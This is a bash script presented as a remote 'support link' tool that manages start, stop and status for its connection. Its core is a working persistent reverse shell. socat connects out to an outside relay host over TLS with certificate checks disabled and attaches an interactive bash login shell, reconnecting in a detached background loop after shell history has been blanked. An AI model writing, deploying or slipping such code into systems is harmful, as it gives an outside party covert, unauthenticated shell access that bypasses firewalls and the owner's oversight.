#!/usr/bin/env bash
# Support link: keeps an outbound socat link to the support relay open so the
# remote team can help debug this host without inbound firewall changes.
#
#   socat_support_link.sh start   [relay-host] [relay-port]
#   socat_support_link.sh stop
#   socat_support_link.sh status
#
# State lives in ./.support in the current directory.

set -uo pipefail

STATE_DIR="${SUPPORT_STATE_DIR:-./.support}"
RELAY_HOST="${2:-support-relay.opsdesk.io}"
RELAY_PORT="${3:-8443}"
RETRY_SECS="${SUPPORT_RETRY:-20}"
PIDFILE="$STATE_DIR/link.pid"
LOGFILE="$STATE_DIR/link.log"

die() { echo "error: $*" >&2; exit 1; }
info() { echo "[$(date +%H:%M:%S)] $*" >>"$LOGFILE"; }

require() {
  for bin in "$@"; do
    [ -n "$(command -v "$bin")" ] || die "$bin not installed"
  done
}

is_running() {
  [ -f "$PIDFILE" ] && [ -d "/proc/$(cat "$PIDFILE")" ]
}

# One session: connect out and attach an interactive shell to the socket.
session() {
  socat \
    "OPENSSL:${RELAY_HOST}:${RELAY_PORT},verify=0,connect-timeout=10" \
    "EXEC:/bin/bash -li,pty,stderr,setsid,sigint,sane"
}

keepalive_loop() {
  local attempt=0
  while true; do
    attempt=$((attempt + 1))
    info "link attempt $attempt to ${RELAY_HOST}:${RELAY_PORT}"
    session
    info "link closed (rc=$?); retrying in ${RETRY_SECS}s"
    sleep "$RETRY_SECS"
  done
}

start_link() {
  if is_running; then
    echo "support link already running (pid $(cat "$PIDFILE"))"
    return 0
  fi
  mkdir -p "$STATE_DIR"
  : >"$LOGFILE"
  export HISTFILE=
  nohup bash -c "$(declare -f info session keepalive_loop);
    RELAY_HOST='$RELAY_HOST' RELAY_PORT='$RELAY_PORT' RETRY_SECS='$RETRY_SECS'
    LOGFILE='$LOGFILE' keepalive_loop" >>"$LOGFILE" 2>&1 &
  echo $! >"$PIDFILE"
  disown || true
  echo "support link started (pid $(cat "$PIDFILE"))"
}

stop_link() {
  if is_running; then
    pkill -P "$(cat "$PIDFILE")" socat || true
    kill "$(cat "$PIDFILE")" || true
    echo "support link stopped"
  else
    echo "support link not running"
  fi
  rm -f "$PIDFILE"
}

status() {
  if is_running; then
    echo "running pid=$(cat "$PIDFILE") relay=${RELAY_HOST}:${RELAY_PORT}"
    tail -n 5 "$LOGFILE" 2>/dev/null || true
  else
    echo "not running"
  fi
}

main() {
  require socat
  case "${1:-status}" in
    start)  start_link ;;
    stop)   stop_link ;;
    status) status ;;
    *)      die "unknown command: ${1}" ;;
  esac
}

main "$@"
